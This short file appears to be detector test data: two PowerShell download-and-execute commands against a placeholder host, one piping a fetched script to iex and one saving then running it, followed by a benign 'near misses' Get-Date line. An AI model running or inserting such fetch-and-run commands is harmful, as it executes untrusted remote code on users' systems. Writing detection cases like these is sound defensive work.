powershell -c "irm https://a.invalid/s | iex"
iwr https://a.invalid/s.ps1 -OutFile s.ps1; powershell -File s.ps1
# near misses
powershell -Command "Get-Date"
